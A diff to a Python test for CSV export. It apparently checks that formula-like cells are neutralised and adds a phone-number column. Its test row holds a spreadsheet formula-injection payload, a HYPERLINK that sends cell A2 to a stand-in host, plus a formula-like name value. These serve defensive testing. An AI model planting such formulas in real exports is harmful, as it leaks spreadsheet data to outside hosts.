@@ -20,13 +20,13 @@ from tests.web.web_kit import CPR
 pytestmark = pytest.mark.django_db
 
 ROW = [-0.5, 30566.4, 16252, True, False, dt.date(2026, 3, 4), None, '=HYPERLINK("http://x/?"&A2,"Klik")',
-       "-2+3 Hansen", "-0,5", 1e-7]
+       "-2+3 Hansen", "-0,5", 1e-7, "+4566113333"]
 
 
 def _csv(lang: str) -> list[list[str]]:
     with translation.override(lang):
         body = tables.csv_bytes(["Tal", "Stort", "Antal", "Ja", "Nej", "Dato", "Tom", "Navn", "Navn 2", "Tekst",
-                                 "Lille"], [ROW], lang)
+                                 "Lille", "Telefon"], [ROW], lang)
     assert body.startswith(BOM)
     rows = [line.split(tables.delimiter(lang)) for line in body[len(BOM):].decode().splitlines()]
     return rows
@@ -34,12 +34,13 @@ def _csv(lang: str) -> list[list[str]]:
 
 def test_danish_cells_decimal_comma_words_and_no_formula():
     header, row = _csv("da")
-    assert len(header) == len(row) == 11
+    assert len(header) == len(row) == 12
     assert row[:7] == ["-0,5", "30566,4", "16252", "ja", "nej", "04-03-2026", ""]
     assert row[7] == "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Klik\"\")\""  # quoted as text, never run
     assert row[8] == "'-2+3 Hansen"  # a formula, neutralised
     assert row[9] == "-0,5"  # a plain number is no formula: not prefixed
     assert row[10] == "0,0000001"  # never an exponent
+    assert row[11] == "'+4566113333"  # a phone number stays text (a spreadsheet would make it a number)
 
 
 def test_english_cells_decimal_point_and_comma_separator():
